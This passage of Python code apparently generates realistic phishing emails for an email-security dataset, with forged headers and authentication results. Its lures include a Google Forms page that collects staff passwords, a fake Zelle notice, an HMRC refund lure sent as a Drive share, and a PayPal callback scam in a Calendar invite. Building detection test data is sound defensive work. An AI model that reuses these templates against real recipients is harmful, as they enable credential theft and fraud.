               "From: Zelle <alerts@zellepay-notification.com>", "Reply-To: kevin.marsh4471@gmail.com",
               "Subject: Payment Pending: $8,500.00 from Kevin Marsh", f"Message-ID: <{r.mixed('m', 43)}@{host}>",
               "X-Mailer: PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)", "MIME-Version: 1.0",
               f"X-AntiAbuse: This header was added to track abuse, please include it with any abuse report",
               f"X-AntiAbuse: Primary Hostname - {host}", "X-AntiAbuse: Original Domain - gracefellowshipfranklin.org",
               "X-AntiAbuse: Originator/Caller UID/GID - [47 12] / [47 12]", f"X-AntiAbuse: Sender Address Domain - {host}",
               f"X-Get-Message-Sender-Via: {host}: authenticated_id: halcyonf/from_h",
               f"X-Authenticated-Sender: {host}: alerts@zellepay-notification.com"]
    ip = f"142.11.{r.num('i3', 192, 254)}.{r.num('i4', 2, 250)}"
    a = AU(f"halcyonf@{host}", ip, "pass", [], None, from_dom="zellepay-notification.com")
    data = deliver(r, c, rcpt, t + timedelta(seconds=4), host, ip, a, sender, headers, body)
    return done("phishing", kind, slug,
                "Marketplace overpayment scam on the church treasurer selling the old van: a fake Zelle 'payment pending, business "
                "upgrade required' notice from a throwaway domain via a compromised cPanel host; no link, just pressure.",
                data)


# =========================================================================== attacks: genuine platforms abused

def google_notice(r: R, c: Client, rcpt: str, t: datetime, bounce_dom: str, headers: list[str], body,
                  extra_dkim: str | None = None, from_dom: str = "google.com", verdict=None, extra_sel: str = "20230601",
                  policy: str | None = None) -> bytes:
    """A message generated and sent by a Google service (Drive, Forms, Calendar, Looker Studio)."""
    helo, ip, gt = google_service_route(r, c)
    mailfrom = f"3{r.mixed('bnc', 30)}{r.alnum('bnc2', 1, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ')}@{bounce_dom}"
    sender = google_service_lines(r, t)
    dk = [("google.com", "20230601", "pass")]
    if extra_dkim:
        sender.insert(0, dkim(r, extra_dkim, extra_sel, "to:from:subject:date:message-id:reply-to:sender:mime-version:from:to\n         :cc:subject:date:message-id:reply-to", t, "google", label="e"))
        dk.insert(0, (extra_dkim, extra_sel, "pass"))
    pol = policy or ("p=REJECT sp=REJECT dis=NONE" if from_dom == "google.com" else "p=NONE sp=QUARANTINE dis=NONE")
    a = AU(mailfrom, ip, "pass", dk, "pass", pol, from_dom=from_dom)
    return deliver(r, c, rcpt, t + timedelta(seconds=1), helo, ip, a, sender, headers, body, gt=gt, verdict=verdict)


@sample
def google_forms_quota():
    kind, slug = "phish", "google-forms-mailbox-quota-oakmere"
    r = S(kind, slug)
    c = CLIENTS["oakmere"]
    t = T(2024, 3, 5, 7, 48, 20)
    rcpt = "ben.ashworth@oakmereprep.co.uk"
    fid = "1FAIpQLS" + r.mixed("fid", 48)
    view = f"https://docs.google.com/forms/d/e/{fid}/viewform?usp=mail_form_link"
    html = f"""<html><body style="font-family:Roboto,Arial,sans-serif;background-color:#f0ebf8;margin:0;padding:0">
<div style="max-width:640px;margin:0 auto;padding:16px 0">
<div style="background:#ffffff;border-radius:8px;border-top:10px solid #673ab7;padding:24px">
<div style="font-size:14px;color:#202124">Oakmere IT Services has invited you to fill out a form:</div>
<div style="font-size:32px;line-height:40px;color:#202124;padding-top:16px">Staff Mailbox Storage Revalidation</div>
<div style="font-size:14px;color:#202124;padding-top:12px;white-space:pre-wrap">Your staff mailbox (ben.ashworth@oakmereprep.co.uk) has reached 98% of its storage allocation. Incoming messages from parents and staff will be held from 06/03/2024.

To keep your mailbox active, revalidate your staff account below. This is required by the school's IT policy for the spring term.</div>
<form action="https://docs.google.com/forms/d/e/{fid}/formResponse" method="POST" target="_blank">
<div style="padding-top:20px;font-size:16px;color:#202124">Staff email address <span style="color:#d93025">*</span></div>
<input type="email" name="entry.{r.num('e1', 100000000, 999999999)}" value="" style="width:100%;padding:8px;border:none;border-bottom:1px solid #dadce0">
<div style="padding-top:20px;font-size:16px;color:#202124">Staff password <span style="color:#d93025">*</span></div>
<input type="password" name="entry.{r.num('e2', 100000000, 999999999)}" value="" style="width:100%;padding:8px;border:none;border-bottom:1px solid #dadce0">
<div style="padding-top:20px"><input type="submit" value="Submit" style="background:#673ab7;color:#fff;border:none;border-radius:4px;padding:9px 24px;font-size:14px"></div>
</form>
<div style="padding-top:24px;font-size:14px"><a href="{view}" style="color:#673ab7">If you have trouble viewing or submitting this form, you can fill it out in Google Forms.</a></div>
</div>
<div style="font-size:12px;color:#5f6368;padding:16px 24px;line-height:18px">Never submit passwords through Google Forms.<br>
This form was created outside of your domain. <a href="https://docs.google.com/forms/d/e/{fid}/reportabuse?source=https://docs.google.com/forms/d/e/{fid}/viewform?sid%3D{r.hex('sid', 16)}%26token%3D{r.b64url('tok', 30)}" style="color:#5f6368">Report Abuse</a> - <a href="https://policies.google.com/terms" style="color:#5f6368">Terms of Service</a> - <a href="https://policies.google.com/privacy" style="color:#5f6368">Privacy Policy</a><br>
<a href="https://forms.google.com/?utm_source=product&amp;utm_medium=forms_logo&amp;utm_campaign=forms" style="color:#5f6368">Google Forms: Create and analyze surveys.</a></div>
</div></body></html>
"""
    body = Multi("alternative", gboundary(r, "b"), [text(strip_tags(html) + f"\nFill out form: {view}\n"), text(html, "html")])
    headers = [f"Reply-To: oakmere.itservices@gmail.com", f"Message-ID: <{r.mixed('mid', 22)}@docs.google.com>",
               f"Date: {format_datetime(t.astimezone(UTC)).replace('-0000', '+0000')}",
               "Subject: Staff Mailbox Storage Revalidation", "From: \"Oakmere IT Services (via Google Forms)\" <forms-receipts-noreply@google.com>",
               f"To: {rcpt}"]
    data = google_notice(r, c, rcpt, t, "docs.bounces.google.com", headers, body)
    return done("phishing", kind, slug,
                "Credential-harvest form built in Google Forms and mailed by Google itself (google.com DKIM/DMARC pass) with the form "
                "embedded in the message, asking staff for their email and password to avoid a 'mailbox full' suspension.",
                data)


@sample
def google_sites_dental_lab():
    kind, slug = "phish", "google-sites-statement-compromised-lab-kestrel"
    r = S(kind, slug)
    c = CLIENTS["kestrel"]
    t = T(2025, 3, 31, 14, 2, 47)
    rcpt = "reception@kestrellanedental.co.uk"
    site = "https://sites.google.com/view/pennine-dental-lab-statements/home"
    paras = ["Good afternoon,", "",
             "Please find below your monthly statement for March 2025 along with the lab tickets for work returned this month "
             "(crowns, dentures and the two implant cases for Dr McBride).", "",
             f'<a href="{site}"><b>View Statement &amp; Lab Tickets &#8211; Kestrel Lane Dental Practice</b></a>', "",
             "The balance of &pound;3,482.50 is due by 14 April. Let me know if anything doesn't match your records.", "",
             "Kind regards,", "", "Joanne Pickles", "Accounts | Pennine Dental Laboratory Ltd",
             "Unit 4, Canal Wharf, Shipley BD18 3JN | 01274 588 204"]
    body = outlook_msg(r, paras, lang="EN-GB")
    data = send_exo(r, c, rcpt, t, "accounts@penninedentallab.co.uk", "Pennine Dental Lab Accounts <accounts@penninedentallab.co.uk>",
                    "\"reception@kestrellanedental.co.uk\" <reception@kestrellanedental.co.uk>",
                    "Statement - March 2025 - Kestrel Lane Dental Practice", body, "Europe/London", region="gbr",
                    policy="p=NONE sp=NONE dis=NONE", lang="en-GB", ctry="GB",
                    cc="\"sunita.kaur@kestrellanedental.co.uk\" <sunita.kaur@kestrellanedental.co.uk>")
    return done("phishing", kind, slug,
                "Month-end statement from the practice's real dental lab, whose Microsoft 365 mailbox was compromised (all "
                "authentication passes), linking to a page on sites.google.com that fronts the credential phish.",
                data)


@sample
def drive_share_hmrc():
    kind, slug = "phish", "google-drive-share-hmrc-repayment-tillbrook"
    r = S(kind, slug)
    c = CLIENTS["tillbrook"]
    t = T(2025, 2, 4, 10, 19, 5)
    rcpt = "info@tillbrookaccountants.co.uk"
    fid = "1" + r.mixed("fid", 32)
    link = f"https://drive.google.com/file/d/{fid}/view?usp=sharing_eil_se_dm&amp;ts={r.hex('ts', 8)}"
    note = ("Your Self Assessment repayment of &pound;1,284.60 for the 2023-24 tax year has been approved. Open the attached notice "
            "and confirm your bank details before 14 February 2025 to receive payment. HM Revenue &amp; Customs")
    html = f"""<!doctype html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"></head>
<body style="margin:0;padding:0;background-color:#ffffff"><table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px 12px">
<table role="presentation" width="100%" style="max-width:516px;font-family:'Google Sans',Roboto,Arial,sans-serif;color:#3c4043" cellpadding="0" cellspacing="0">
<tr><td style="padding-bottom:20px"><img src="https://www.gstatic.com/images/branding/productlogos/drive_2020q4/v8/web-64dp/logo_drive_2020q4_color_2x_web_64dp.png" width="40" height="40" alt="Logo for Google Drive"></td></tr>
<tr><td style="font-size:24px;line-height:32px;color:#202124;padding-bottom:20px">HMRC Refunds shared a file</td></tr>
<tr><td style="padding-bottom:20px"><table role="presentation" cellpadding="0" cellspacing="0"><tr><td style="width:40px;vertical-align:top"><div style="width:32px;height:32px;border-radius:50%;background:#1a73e8;color:#fff;text-align:center;line-height:32px">H</div></td>
<td style="font-size:14px;line-height:20px">HMRC Refunds (<a href="mailto:hmrc.refunds.notice@gmail.com" style="color:#1a73e8;text-decoration:none">hmrc.refunds.notice@gmail.com</a>) has shared the following file:</td></tr></table></td></tr>
<tr><td style="padding-bottom:20px"><table role="presentation" width="100%" style="border:1px solid #dadce0;border-radius:8px" cellpadding="0" cellspacing="0"><tr><td style="padding:12px 16px"><a href="{link}" style="color:#3c4043;text-decoration:none;font-size:14px;font-weight:500"><img src="https://drive-thirdparty.googleusercontent.com/32/type/application/pdf" width="20" height="20" alt="" style="vertical-align:middle">&nbsp; SA Repayment Notice - UTR 48213 70596.pdf</a></td></tr></table></td></tr>
<tr><td style="padding:0 0 20px 0;font-size:14px;line-height:20px;background:#f8f9fa;border-radius:8px"><div style="padding:12px 16px">{note}</div></td></tr>
<tr><td style="padding-bottom:32px"><a href="{link}" style="background-color:#0b57d0;color:#ffffff;border-radius:100px;padding:10px 24px;font-size:14px;font-weight:500;text-decoration:none;display:inline-block">Open</a></td></tr>
<tr><td style="font-size:12px;line-height:16px;color:#5f6368;border-top:1px solid #dadce0;padding-top:20px">If you don't want to receive files from this person, <a href="https://drive.google.com/drive/blockuser?blockerEmail={rcpt}&amp;blockeeEmail=hmrc.refunds.notice@gmail.com&amp;usp=sharing_eib_se_dm" style="color:#1a73e8">block the sender</a> from Drive<br><br>
Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA<br>You have received this email because <a href="mailto:hmrc.refunds.notice@gmail.com" style="color:#1a73e8;text-decoration:none">hmrc.refunds.notice@gmail.com</a> shared a file with you from Google Drive.<br><br>
<img src="https://www.gstatic.com/images/branding/googlelogo/2x/googlelogo_grey_tm_color_96x40dp.png" width="48" alt="Logo for Google"></td></tr>
</table></td></tr></table></body></html>
"""
    body = Multi("alternative", gboundary(r, "b"), [text(strip_tags(html).replace("\nOpen\n", f"\nOpen: {link.replace('&amp;', '&')}\n")), text(html, "html")])
    headers = ["Reply-To: HMRC Refunds <hmrc.refunds.notice@gmail.com>", f"X-Google-Id: {r.num('gid', 100000, 999999)}",
               f"Message-ID: <{r.b64url('mid', 16)}.0@notifications.google.com>",
               f"Date: {format_datetime(t.astimezone(UTC)).replace('-0000', '+0000')}",
               "Subject: Document shared with you: \"SA Repayment Notice - UTR 48213 70596.pdf\"",
               "From: \"HMRC Refunds (via Google Drive)\" <drive-shares-dm-noreply@google.com>", f"To: {rcpt}",
]
    data = google_notice(r, c, rcpt, t, "doclist.bounces.google.com", headers, body)
    return done("phishing", kind, slug,
                "HMRC repayment lure delivered as a genuine Google Drive share notification (google.com DKIM/DMARC pass) from a Gmail "
                "account named 'HMRC Refunds'; the shared PDF in Drive carries the phishing link.",
                data)


@sample
def calendar_invite_callback():
    kind, slug = "phish", "google-calendar-invite-paypal-callback-pinegate"
    r = S(kind, slug)
    c = CLIENTS["pinegate"]
    t = T(2025, 6, 9, 12, 33, 41)
    rcpt = "kristen@pinegaterealty.com"
    org = "paypal.billing.ref2291@gmail.com"
    eid = r.alnum("eid", 26)
    phone = "+1 (844) 617-2093"
    desc = (f"PayPal Payment Confirmation\\n\\nOrder ID: PP-8847-2291\\nAmount: $498.00 USD\\nItem: Norton 360 Deluxe - 5 "
            f"Devices (3 Years)\\nStatus: Completed\\n\\nIf you did not authorize this transaction\\, contact PayPal Support "
            f"immediately at {phone} to cancel and receive a full refund. Refunds must be requested within 24 hours.")
    desc_html = desc.replace("\\n", "<br>").replace("\\,", ",")
    start = datetime(2025, 6, 10, 14, 0, tzinfo=UTC)
    ics = ("BEGIN:VCALENDAR\r\nPRODID:-//Google Inc//Google Calendar 70.9054//EN\r\nVERSION:2.0\r\nCALSCALE:GREGORIAN\r\n"
           "METHOD:REQUEST\r\nBEGIN:VEVENT\r\n"
           f"DTSTART:{start:%Y%m%dT%H%M%SZ}\r\nDTEND:{start + timedelta(hours=1):%Y%m%dT%H%M%SZ}\r\nDTSTAMP:{t:%Y%m%dT%H%M%SZ}\r\n"
           f"ORGANIZER;CN=PayPal Billing:mailto:{org}\r\nUID:{r.alnum('uid', 26)}@google.com\r\n"
           f"ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=\r\n TRUE;CN={rcpt};X-NUM-GUESTS=0:mailto:{rcpt}\r\n"
           f"ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=ACCEPTED;RSVP=TRUE\r\n ;CN=PayPal Billing;X-NUM-GUESTS=0:mailto:{org}\r\n"
           f"X-MICROSOFT-CDO-OWNERAPPTID:{r.num('cdo', 100000000, 999999999)}\r\nCREATED:{t:%Y%m%dT%H%M%SZ}\r\n"
           f"DESCRIPTION:{desc}\r\nLAST-MODIFIED:{t:%Y%m%dT%H%M%SZ}\r\nLOCATION:\r\nSEQUENCE:0\r\nSTATUS:CONFIRMED\r\n"
           "SUMMARY:PayPal: Payment of $498.00 Completed - Order PP-8847-2291\r\nTRANSP:OPAQUE\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
    # fold long ICS lines at 75 octets as Google does
    folded = []
    for ln in ics.split("\r\n"):
        while len(ln) > 75:
            folded.append(ln[:75])
            ln = " " + ln[75:]
        folded.append(ln)
    ics = "\r\n".join(folded)
    ev = f"https://calendar.google.com/calendar/event?action=VIEW&amp;eid={eid}&amp;tok={r.b64url('tok', 40)}&amp;ctz=America%2FNew_York&amp;hl=en&amp;es=1"
    html = f"""<span itemscope itemtype="http://schema.org/InformAction"><span style="display:none" itemprop="about" itemscope itemtype="http://schema.org/Person"><meta itemprop="description" content="Invitation from PayPal Billing"/></span></span>
<div style=""><table cellspacing="0" cellpadding="8" border="0" summary="" style="width:100%;font-family:Arial,Sans-serif;border:1px Solid #ccc;border-width:1px 2px 2px 1px;background-color:#fff;"><tr><td>
<div style="padding:2px"><span itemprop="name" style="font-size:20px;color:#222">PayPal: Payment of $498.00 Completed - Order PP-8847-2291</span></div>
<p style="color:#222">{desc_html}</p>
<table cellpadding="0" cellspacing="0" border="0" summary="Event details"><tr><td style="padding:0 1em 10px 0;font-family:Arial,Sans-serif;font-size:13px;color:#888;white-space:nowrap" valign="top"><div><i style="font-style:normal">When</i></div></td><td style="padding-bottom:10px;font-family:Arial,Sans-serif;font-size:13px;color:#222" valign="top">Tuesday Jun 10, 2025 &#8901; 10am &#8211; 11am (Eastern Time - New York)</td></tr>
<tr><td style="padding:0 1em 10px 0;font-family:Arial,Sans-serif;font-size:13px;color:#888;white-space:nowrap" valign="top"><div><i style="font-style:normal">Guests</i></div></td><td style="padding-bottom:10px;font-family:Arial,Sans-serif;font-size:13px;color:#222" valign="top"><div><a href="mailto:{org}" style="color:#20c;white-space:nowrap">PayPal Billing</a> - organizer</div><div><a href="mailto:{rcpt}" style="color:#20c;white-space:nowrap">{rcpt}</a></div></td></tr></table>
<p><a href="{ev}" style="color:#20c">View all guest info</a></p>
<p style="color:#222">Reply for <b>{rcpt}</b>: <a href="https://calendar.google.com/calendar/event?action=RESPOND&amp;eid={eid}&amp;rst=1&amp;tok={r.b64url('tok', 40)}&amp;ctz=America%2FNew_York&amp;hl=en&amp;es=1">Yes</a> - <a href="https://calendar.google.com/calendar/event?action=RESPOND&amp;eid={eid}&amp;rst=2&amp;tok={r.b64url('tok', 40)}&amp;ctz=America%2FNew_York&amp;hl=en&amp;es=1">No</a> - <a href="https://calendar.google.com/calendar/event?action=RESPOND&amp;eid={eid}&amp;rst=3&amp;tok={r.b64url('tok', 40)}&amp;ctz=America%2FNew_York&amp;hl=en&amp;es=1">Maybe</a></p>
<p style="color:#888;font-size:11px">Invitation from <a href="https://calendar.google.com/calendar/" style="color:#888">Google Calendar</a><br>You are receiving this email because you are an attendee on the event. To stop receiving future updates for this event, decline this event.<br>Forwarding this invitation could allow any recipient to send a response to the organizer, be added to the guest list, invite others regardless of their own invitation status, or modify your RSVP. <a href="https://support.google.com/calendar/answer/37135#forwarding">Learn more</a></p>
</td></tr></table></div>
"""
    plain = strip_tags(html)
    body = Multi("mixed", gboundary(r, "mx"), [
        Multi("alternative", gboundary(r, "al"), [
            text(plain), text(html, "html"),
            Leaf("text/calendar", ics.encode(), "7bit", '; charset="UTF-8"; method=REQUEST')]),
        Leaf("application/ics", ics.encode(), "base64", '; name="invite.ics"', 'attachment; filename="invite.ics"')])
    headers = [f"Reply-To: PayPal Billing <{org}>", "Sender: Google Calendar <calendar-notification@google.com>",
               f"Auto-Submitted: auto-generated", f"Message-ID: <calendar-{r.guid('cal')}@google.com>",
               f"Date: {format_datetime(t.astimezone(UTC)).replace('-0000', '+0000')}",
               "Subject: Invitation: PayPal: Payment of $498.00 Completed - Order PP-8847-2291 @ Tue Jun 10, 2025 10am - 11am (EDT) (kristen@pinegaterealty.com)",
               f"From: PayPal Billing <{org}>", f"To: {rcpt}"]
    data = google_notice(r, c, rcpt, t, "calendar-server.bounces.google.com", headers, body, extra_dkim="gmail.com",
                         from_dom="gmail.com")
    return done("phishing", kind, slug,
                "Callback scam pushed as a Google Calendar invitation from a Gmail organizer named 'PayPal Billing': Google "
                "sends it (passes everything), the event text carries a fake $498 charge and a phone number; no malicious link.",
                data)


@sample
def looker_studio_grant():
    kind, slug = "phish", "looker-studio-grant-disbursement-riverbend"
    r = S(kind, slug)
    c = CLIENTS["riverbend"]
    t = T(2025, 8, 19, 16, 55, 2)
    rcpt = "evasquez@riverbendliteracy.org"
    rep = r.guid("rep")
    link = f"https://lookerstudio.google.com/reporting/{rep}/page/p_{r.alnum('pg', 10)}?s={r.mixed('s', 11)}"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head><body style="margin:0;padding:0;background:#f1f3f4">
<table width="100%" cellpadding="0" cellspacing="0" style="background:#f1f3f4"><tr><td align="center" style="padding:24px">
<table width="560" cellpadding="0" cellspacing="0" style="background:#ffffff;border-radius:8px;font-family:Roboto,Arial,sans-serif">
<tr><td style="padding:24px 32px 8px 32px"><img src="https://www.gstatic.com/analytics-lego/svg/ic_looker_studio.svg" width="32" height="32" alt="Looker Studio"></td></tr>
<tr><td style="padding:8px 32px;font-size:22px;color:#202124">Grant Disbursement Office shared a report with you</td></tr>
<tr><td style="padding:8px 32px;font-size:14px;color:#5f6368">Grant Disbursement Office (grants.disbursement.office@gmail.com) has shared the following report with you:</td></tr>
<tr><td style="padding:16px 32px"><table width="100%" style="border:1px solid #dadce0;border-radius:8px"><tr><td style="padding:14px 16px;font-size:15px;color:#202124"><b>Riverbend Literacy Alliance &#8211; 2025 Grant Disbursement Summary</b><br><span style="font-size:13px;color:#5f6368">Approved award: $48,500.00 &middot; Status: Pending recipient verification</span></td></tr></table></td></tr>
<tr><td style="padding:4px 32px 8px 32px;font-size:14px;color:#3c4043">&ldquo;Please open the report and complete the recipient verification step on page 2 to release your organization's 2025 award. Verification closes August 22.&rdquo;</td></tr>
<tr><td style="padding:16px 32px 28px 32px"><a href="{link}" style="background:#1a73e8;color:#fff;text-decoration:none;padding:10px 24px;border-radius:4px;font-size:14px">Open</a></td></tr>
<tr><td style="padding:16px 32px;font-size:12px;color:#5f6368;border-top:1px solid #e8eaed">Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA<br>You have received this email because someone shared a Looker Studio report with you.</td></tr>
</table></td></tr></table></body></html>
"""
    body = Multi("alternative", gboundary(r, "b"), [text(strip_tags(html).replace("\nOpen\n", f"\nOpen: {link}\n")), text(html, "html")])
    headers = ["Reply-To: Grant Disbursement Office <grants.disbursement.office@gmail.com>",
               f"Message-ID: <{r.b64url('mid', 16)}@lookerstudio.google.com>",
               f"Date: {format_datetime(t.astimezone(UTC)).replace('-0000', '+0000')}",
               "Subject: Grant Disbursement Office shared \"Riverbend Literacy Alliance - 2025 Grant Disbursement Summary\" with you",
               "From: Looker Studio <looker-studio-noreply@google.com>", f"To: {rcpt}"]
    data = google_notice(r, c, rcpt, t, "scoutcamp.bounces.google.com", headers, body)
    return done("phishing", kind, slug,
                "Grant lure to the charity's director delivered as a real Looker Studio share notification from Google; the "
                "shared report's second page carries the 'recipient verification' link to a phishing site.",
                data)


def dropbox_html(r: R, sharer: str, sharer_email: str, item: str, note: str, link: str, kind_word: str = "file",
                 year: int = 2025) -> str:
    return f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width, initial-scale=1.0"></head>
<body style="margin:0;padding:0;background-color:#ffffff;font-family:'Sharp Grotesk',Helvetica,Arial,sans-serif">
<table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:32px 16px">
<table role="presentation" width="100%" style="max-width:528px" cellpadding="0" cellspacing="0">
<tr><td style="padding-bottom:28px"><img src="https://cfl.dropboxstatic.com/static/images/emails/glyph/glyph_34.png" width="34" height="32" alt="Dropbox"></td></tr>
<tr><td style="font-size:22px;line-height:28px;color:#1e1919;padding-bottom:16px">{sharer} shared &ldquo;{item}&rdquo;</td></tr>
<tr><td style="font-size:14px;line-height:22px;color:#637282;padding-bottom:20px">{sharer} (<a href="mailto:{sharer_email}" style="color:#0061fe;text-decoration:none">{sharer_email}</a>) invited you to view the {kind_word} &ldquo;{item}&rdquo; on Dropbox.</td></tr>
<tr><td style="font-size:15px;line-height:22px;color:#1e1919;padding:14px 16px;background:#f7f5f2;border-radius:4px">{note}</td></tr>
<tr><td style="padding:24px 0"><a href="{link}" style="background-color:#0061fe;color:#ffffff;padding:12px 24px;font-size:15px;text-decoration:none;border-radius:4px;display:inline-block">View {kind_word}</a></td></tr>
<tr><td style="font-size:12px;line-height:18px;color:#637282;border-top:1px solid #e8e5e1;padding-top:20px">Enjoy!<br>The Dropbox team<br><br>
<a href="https://www.dropbox.com/l/AAD{r.b64url('unsub', 30)}/email_notification_settings" style="color:#637282">Unsubscribe from these emails</a> &middot; <a href="https://www.dropbox.com/privacy" style="color:#637282">Privacy Policy</a><br>
&copy; {year} Dropbox, Inc., 1800 Owens St, San Francisco, CA 94158</td></tr>
</table></td></tr></table></body></html>
"""


def dropbox_send(r: R, c: Client, rcpt: str, t: datetime, sharer: str, sharer_email: str, item: str, html: str, subject: str) -> bytes:
    ip = f"162.125.{r.num('dbx3', 240, 255)}.{r.num('dbx4', 10, 250)}"
    helo = f"mail-{r.num('dbxn', 100, 999)}.outbound.dropbox.com"
    sender = [dkim(r, "dropbox.com", "2019", "From:To:Subject:Date:Message-ID:Reply-To:MIME-Version:Content-Type:List-Unsubscribe", t, "generic"),
              f"Received: from notify-{r.num('nf', 10, 99)}.sjc.dropbox.com (unknown [10.{r.num('x', 10, 99)}.{r.num('y', 1, 250)}.{r.num('z', 1, 250)}])\n\tby {helo} (Postfix) with ESMTP id 4{r.alnum('q', 11, 'BCDFGHJKLMNPQRSTVWXYZ0123456789')}\n\tfor <{rcpt}>; {format_datetime(t.astimezone(UTC))}"]
    headers = ["MIME-Version: 1.0", f"From: \"{sharer} (via Dropbox)\" <no-reply@dropbox.com>", f"Reply-To: \"{sharer}\" <{sharer_email}>",
               f"To: {rcpt}", f"Subject: {subject}", f"Date: {format_datetime(t.astimezone(UTC)).replace('-0000', '+0000')}",
               f"Message-ID: <{r.hex('mid', 20)}.{r.num('m2', 10**9, 10**10 - 1)}@dropbox.com>",
               "X-Dropbox-Mail-Category: sharing", f"List-Unsubscribe: <https://www.dropbox.com/l/AAD{r.b64url('unsub', 30)}/email_notification_settings>"]
    body = Multi("alternative", f"==============={r.num('bd', 10**18, 10**19 - 1)}==", [text(strip_tags(html)), text(html, "html")])
    a = AU(f"bounces+{r.hex('b', 12)}@em.dropbox.com", ip, "pass", [("dropbox.com", "2019", "pass")], "pass",
           "p=REJECT sp=REJECT dis=NONE", from_dom="dropbox.com")
    return deliver(r, c, rcpt, t + timedelta(seconds=2), helo, ip, a, sender, headers, body, verdict=dict(bcl=1))


@sample
def dropbox_closing_package():
    kind, slug = "phish", "dropbox-share-closing-package-compromised-pinegate"
    r = S(kind, slug)
    c = CLIENTS["pinegate"]
    t = T(2024, 8, 27, 18, 20, 14)
    rcpt = "rpalvarez@pinegaterealty.com"
    link = f"https://www.dropbox.com/l/scl/AAC{r.b64url('l', 36)}"
    note = ("Hi Roberto, please review and e-sign the closing package for 4471 Bayshore Blvd before Thursday. The PDF has the "
            "secure signing link on page 1. Thanks, Jenna")
    html = dropbox_html(r, "Jenna Morales", "jmorales@bayshoretitlefl.com", "Closing Package - 4471 Bayshore Blvd.pdf", note, link,
                        year=2024)
    data = dropbox_send(r, c, rcpt, t, "Jenna Morales", "jmorales@bayshoretitlefl.com", "Closing Package - 4471 Bayshore Blvd.pdf",
                        html, "Jenna Morales shared \"Closing Package - 4471 Bayshore Blvd.pdf\" with you")
    return done("phishing", kind, slug,
                "Genuine Dropbox share notification (dropbox.com passes DMARC) from a title processor's hijacked Dropbox account; "
                "the shared 'closing package' PDF points to the credential phish, so the mail itself holds only Dropbox links.",
                data)


def box_html(r: R, sharer: str, sharer_email: str, folder: str, sub: str, note: str, link: str) -> str:
    return f"""<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"></head>
<body style="margin:0;padding:0;background:#f4f4f4"><table width="100%" cellpadding="0" cellspacing="0" style="background:#f4f4f4"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Lato,Helvetica,Arial,sans-serif;color:#222">
<tr><td style="padding:24px 32px"><img src="https://e3.boxcdn.net/assets/emails/box-logo-blue@2x.png" width="58" height="32" alt="box"></td></tr>
<tr><td style="padding:0 32px;font-size:20px;line-height:28px"><b>{sharer}</b> invited you to collaborate on a folder</td></tr>
<tr><td style="padding:16px 32px;font-size:14px;line-height:21px;color:#4e4e4e">&ldquo;{note}&rdquo;</td></tr>
<tr><td style="padding:8px 32px"><table cellpadding="0" cellspacing="0" style="border:1px solid #e8e8e8;border-radius:4px" width="100%"><tr><td style="padding:12px 16px;font-size:14px">&#128193; <b>{folder}</b><br><span style="color:#767676;font-size:12px">{sub}</span></td></tr></table></td></tr>
<tr><td style="padding:20px 32px"><a href="{link}" style="background:#0061d5;color:#ffffff;text-decoration:none;padding:10px 20px;border-radius:4px;font-size:14px;font-weight:bold">Accept Invite</a></td></tr>
<tr><td style="padding:24px 32px;font-size:11px;color:#909090;line-height:16px">You received this email because {sharer} ({sharer_email}) invited you to collaborate in Box.<br>
<a href="https://app.box.com/notifications" style="color:#909090">Notification settings</a> &middot; <a href="https://www.box.com/legal/privacypolicy" style="color:#909090">Privacy</a><br>Box, Inc., 900 Jefferson Ave, Redwood City, CA 94063</td></tr>
</table></td></tr></table></body></html>
"""


def box_send(r: R, c: Client, rcpt: str, t: datetime, sharer: str, sharer_email: str, folder: str, html: str, link: str) -> bytes:
    body = Multi("alternative", f"----=_Part_{r.num('p', 1000000, 9999999)}_{r.num('p2', 100000000, 999999999)}.{int(t.timestamp() * 1000)}",
                 [text(strip_tags(html) + f"\nAccept Invite: {link}\n"), text(html, "html")])
    ip = f"74.112.{r.num('ip3', 184, 187)}.{r.num('ip4', 10, 250)}"
    helo = f"smtp-out{r.num('h', 1, 9)}.box.com"
    sender = [dkim(r, "box.com", "s2048", "Content-Type:MIME-Version:From:To:Reply-To:Subject:Date:Message-ID", t, "generic"),
              f"Received: from app-notify-{r.num('an', 10, 99)}.pod-{r.num('pod', 1, 9)}.box.net (unknown [10.{r.num('x', 1, 99)}.{r.num('y', 1, 250)}.{r.num('z', 1, 250)}])\n\tby {helo} (Postfix) with ESMTP id 4X{r.alnum('q', 9, 'BCDFGHJKLMNPQRSTVWXYZ0123456789')}\n\tfor <{rcpt}>; {format_datetime(t.astimezone(ZoneInfo('America/Los_Angeles')))}"]
    headers = ["MIME-Version: 1.0", f"From: \"{sharer} (via Box)\" <noreply@box.com>", f"Reply-To: {sharer_email}", f"To: {rcpt}",
               f"Subject: {sharer} invited you to collaborate on \"{folder}\"",
               f"Date: {format_datetime(t.astimezone(ZoneInfo('America/Los_Angeles')))}",
               f"Message-ID: <{r.hex('mid', 24)}.{r.num('mid2', 1000, 9999)}@box.com>", "X-Box-Notification-Type: collab_invite"]
    a = AU(f"bounces+{r.num('bn', 100000, 999999)}@mail.box.com", ip, "pass", [("box.com", "s2048", "pass")], "pass",
           "p=REJECT sp=REJECT dis=NONE", from_dom="box.com")
    return deliver(r, c, rcpt, t + timedelta(seconds=3), helo, ip, a, sender, headers, body, ctry="US")


@sample
def box_tender_package():
    kind, slug = "phish", "box-share-tender-package-compromised-bramley"
    r = S(kind, slug)
    c = CLIENTS["bramley"]
    t = T(2025, 5, 13, 8, 41, 30)
    rcpt = "ryan.cole@bramleybuild.co.uk"
